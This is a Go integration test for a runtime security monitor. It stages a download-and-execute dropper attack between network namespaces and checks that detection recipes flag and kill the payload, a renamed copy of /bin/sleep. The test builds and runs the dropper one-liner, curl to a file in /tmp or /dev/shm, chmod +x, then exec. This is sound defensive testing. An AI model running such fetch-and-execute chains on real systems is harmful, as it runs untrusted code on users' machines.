package attack

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"github.com/jibril-rt/jibril/tests/testkit"
	"net/http"
	"os"
	"path/filepath"
	"testing"
	"time"
)

// TestDownloadAndExecute: the classic dropper one-liner, `curl -o P URL && chmod +x P && P`,
// run in namespace A against a web server in namespace B that serves a copy of /bin/sleep.
// dropper_write_then_exec correlates curl's write with the exec of the same path and kills the
// payload; exec_from_temp_dir hashes what runs from /tmp and kills what runs from /dev/shm.
//
// Both match far more than this attack: any program written to /tmp and run within minutes.
// On a shared machine other tests do exactly that, so the built-in recipes keep to detecting
// (mode off: detections are printed, nothing reacts) and copies of them, limited to this test
// binary's own processes, enforce the same reaction code with the same policies.
func TestDownloadAndExecute(t *testing.T) {
	need(t, "curl", "sh", "chmod")
	tok := testkit.Token(t)
	p := newNetpair(t, tok)
	payload, err := os.ReadFile("/bin/sleep")
	if err != nil {
		t.Fatal(err)
	}
	// Bytes past the end of the ELF image do not change the program, but make its hash this
	// run's own: exec_from_temp_dir remembers hashes, whoever ran them on the host.
	payload = append(payload, "jibril-attack-"+tok...)
	sum := sha256.Sum256(payload)
	ln := listen(t, p.b, p.addrB+":8080")
	srv := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/payload" {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "application/octet-stream")
		_, _ = w.Write(payload)
	})}
	go func() { _ = srv.Serve(ln) }()
	t.Cleanup(func() { srv.Close() })
	shm, err := os.MkdirTemp("/dev/shm", "jibril-attack-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(shm) })
	cases := []struct {
		name string
		key  string
		dir  string
	}{
		{"tmp", "attack_dropper_tmp_contain_ms", t.TempDir()},
		{"dev shm", "attack_dropper_devshm_contain_ms", shm},
	}
	recipesDir := t.TempDir()
	dropper := scoped(t, recipesDir, "dropper_write_then_exec", "_attack_"+tok)
	tempDir := scoped(t, recipesDir, "exec_from_temp_dir", "_attack_"+tok)
	d := startDaemon(t, p, daemonOpts{files: true, recipes: recipesDir, only: []string{cases[0].dir, cases[1].dir},
		modes: map[string]string{"dropper_write_then_exec": "off", "exec_from_temp_dir": "off", dropper: "enforce", tempDir: "enforce"}})

	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dst := filepath.Join(c.dir, "update")
			a := startIn(t, p.a, "sh", "-c", fmt.Sprintf("curl -sSf -o %[1]s http://%[2]s:8080/payload && chmod +x %[1]s && exec %[1]s 300", dst, p.addrB))
			a.killed(t)
			// The exec of the payload replaced the shell: same pid, exe = the dropped file.
			isPayload := func(e map[string]any) bool {
				return testkit.Num(e, "process", "pid") == a.pid() && testkit.Str(e, "process", "exe") == dst && testkit.Str(e, "event_type") == "execution"
			}
			// The built-in recipes saw it.
			d.waitEvent(t, "dropper_write_then_exec", isPayload)
			d.waitEvent(t, "exec_from_temp_dir", isPayload)
			e := d.waitEvent(t, dropper, isPayload)
			uuid := testkit.Str(e, "uuid")
			// Correlated with curl's write or, when the exec was handled before the write was
			// reported (separate event streams), with the file's modification time. The writer
			// is curl, but the process table may not have seen curl's exec when the write is
			// enriched: the shell that forked it can be named instead.
			d.waitLog(t, dropper, uuid, dst+" written by ", dst+" modified ")
			var kill auditRow
			tmp := d.waitEvent(t, tempDir, isPayload)
			if c.name == "tmp" {
				// /tmp is hashed and remembered, not killed: the kill is the dropper recipe's.
				kill = d.waitAuditRow(t, dropper, uuid, "KillCurrent")
				requireKill(t, kill)
				d.waitLog(t, tempDir, testkit.Str(tmp, "uuid"), "sha256 "+hex.EncodeToString(sum[:]))
				if got := d.storeGet(t, tempDir, "sha256:"+hex.EncodeToString(sum[:])); got != dst {
					t.Fatalf("%s remembered the hash as %q, want %s", tempDir, got, dst)
				}
			} else {
				// Both recipes kill what runs from /dev/shm, in parallel: one of them did.
				d.waitLog(t, tempDir, testkit.Str(tmp, "uuid"), dst+" executed from shared memory")
				kill = d.waitDone(t, a.pid(), "KillCurrent", dropper, tempDir)
			}
			if s := a.survivors(t); len(s) > 0 {
				t.Fatalf("the payload survived: %v", s)
			}
			// From the payload's exec (the event's time stamp) to its death observed by wait.
			exec, err := time.Parse(time.RFC3339Nano, testkit.Str(e, "timestamp"))
			if err != nil {
				t.Fatalf("event timestamp: %v", err)
			}
			recordTime(t, c.key, a.end.Sub(exec))
			t.Logf("chain: download to kill %v, kill audited %v after the exec", a.end.Sub(a.t0), kill.at(t).Sub(exec))
		})
	}
}
